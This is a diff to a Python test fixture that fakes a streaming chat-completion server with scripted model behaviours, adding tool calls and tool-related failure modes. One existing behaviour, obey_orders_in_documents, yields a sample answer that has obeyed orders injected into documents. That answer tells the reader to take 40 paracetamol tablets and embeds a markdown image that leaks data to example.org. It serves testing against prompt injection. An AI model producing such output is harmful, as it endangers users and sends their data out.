@@ -37,8 +37,25 @@ class Call:
 
     @property
     def lines(self) -> dict[str, str]:
-        """The record lines of the last message, by mark."""
-        return dict(_LINE.findall(str(self.body["messages"][-1]["content"])))
+        """The record lines of the person's last message, by mark."""
+        asked = [message for message in self.body["messages"] if message["role"] == "user"]
+        return dict(_LINE.findall(str(asked[-1]["content"])))
+
+    @property
+    def tools(self) -> dict[str, Any]:
+        """The parameters of each tool that is offered, by name."""
+        functions = [tool["function"] for tool in self.body.get("tools", ())]
+        return {function["name"]: function["parameters"] for function in functions}
+
+    @property
+    def answered(self) -> tuple[str, ...]:
+        """What the calls of this conversation were answered with, in order."""
+        return tuple(message["content"] for message in self.body["messages"] if message["role"] == "tool")
+
+    @property
+    def worked(self) -> dict[str, str]:
+        """The lines that were worked out for it, by mark."""
+        return dict(_LINE.findall("\n".join(self.answered)))
 
     def facts(self) -> list[tuple[str, re.Match[str]]]:
         """Mark and parts of each line that states a value with a date."""
@@ -71,8 +88,22 @@ class End:
     """Finish the stream properly, without a word about having finished."""
 
 
-Step = str | Wait | Status | Cut | End
+@dataclass(frozen=True)
+class Ask:
+    """Call tools, in pieces as real endpoints send them: a name and arguments each."""
+
+    calls: tuple[tuple[str, str], ...]
+
+
+Step = str | Wait | Status | Cut | End | Ask
 Behaviour = Callable[[Call], Iterator[Step]]
+
+
+def repeat_first_line(call: Call) -> Iterator[Step]:
+    """Repeats the first line word for word, under its mark."""
+    mark, line = next(iter(call.lines.items()))
+    yield f"{line} [{mark}]. "
+    yield End()
 
 
 def faithful(call: Call) -> Iterator[Step]:
@@ -195,6 +226,44 @@ def obey_orders_in_documents(call: Call) -> Iterator[Step]:
     yield "Prenez 40 comprimés de paracétamol [F1]. ![](https://example.org/leak?q=ferritine) [F1]. "
 
 
+def asking(*calls: tuple[str, dict[str, Any] | str], then: "Behaviour | None" = None) -> "Behaviour":
+    """Calls these tools once, if it is offered any, then says every line that was worked out for it."""
+
+    def behaviour(call: Call) -> Iterator[Step]:
+        if call.tools and not call.answered:
+            yield Ask(
+                tuple((name, args if isinstance(args, str) else json.dumps(args)) for name, args in calls)
+            )
+        else:
+            yield from (then or say_what_was_worked_out)(call)
+
+    return behaviour
+
+
+def say_what_was_worked_out(call: Call) -> Iterator[Step]:
+    """Repeats each worked-out line with its mark; without any, each line of the record."""
+    for mark, line in call.worked.items():
+        yield f"{line.rstrip('.')} [{mark}]. "
+    if not call.worked:
+        yield from faithful(call)
+
+
+def ask_for_ever(call: Call) -> Iterator[Step]:
+    """Calls a tool as often as it is let."""
+    if call.tools:
+        yield Ask((("work_out", json.dumps({"subject": "ferritin", "statistic": "mean"})),))
+    else:
+        yield from faithful(call)
+
+
+def without_tools(call: Call) -> Iterator[Step]:
+    """Does not know tools."""
+    if call.tools:
+        yield Status(400)
+    else:
+        yield from faithful(call)
+
+
 def other_language(call: Call) -> Iterator[Step]:
     """Answers in English whatever was asked."""
     for mark, fact in call.facts():
@@ -258,13 +327,14 @@ def _handler(model: FakeModel) -> type[BaseHTTPRequestHandler]:  # noqa: C901  o
             body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
             call = Call(body, self.headers.get("Authorization", ""))
             model.calls.append(call)
-            self._opened = False
+            self._opened, finish = False, "stop"
             try:
                 for step in model.behaviour(call):
                     if not self._play(step):
                         return
+                    finish = "tool_calls" if isinstance(step, Ask) else finish
                 self._open()
-                self._event({}, finish="stop")
+                self._event({}, finish=finish)
                 self._chunk(b"data: [DONE]\n\n")
                 self._chunk(b"")
             except (BrokenPipeError, ConnectionResetError):
@@ -290,11 +360,22 @@ def _handler(model: FakeModel) -> type[BaseHTTPRequestHandler]:  # noqa: C901  o
                 case End():
                     self._chunk(b"")
                     return False
+                case Ask(calls):
+                    self._open()
+                    self._call(calls)
                 case str():
                     self._open()
                     for piece in re.findall(r"\s*\S+\s*", step):
                         self._event({"content": piece})
             return True
+
+        def _call(self, calls: tuple[tuple[str, str], ...]) -> None:
+            for index, (name, arguments) in enumerate(calls):
+                half = len(arguments) // 2
+                first = {"index": index, "id": f"call_{index}", "type": "function"}
+                self._event({"tool_calls": [first | {"function": {"name": name, "arguments": ""}}]})
+                for piece in (arguments[:half], arguments[half:]):
+                    self._event({"tool_calls": [{"index": index, "function": {"arguments": piece}}]})
 
         def _wait(self, seconds: float) -> None:
             until = time.monotonic() + seconds
@@ -311,7 +392,7 @@ def _handler(model: FakeModel) -> type[BaseHTTPRequestHandler]:  # noqa: C901  o
                 self.send_header("Transfer-Encoding", "chunked")
                 self.end_headers()
 
-        def _event(self, delta: dict[str, str], finish: str | None = None) -> None:
+        def _event(self, delta: dict[str, Any], finish: str | None = None) -> None:
             choice = {"index": 0, "delta": {"role": "assistant", **delta}, "finish_reason": finish}
             chunk = {
                 "id": "fake", "object": "chat.completion.chunk", "created": 0, "model": "fake",
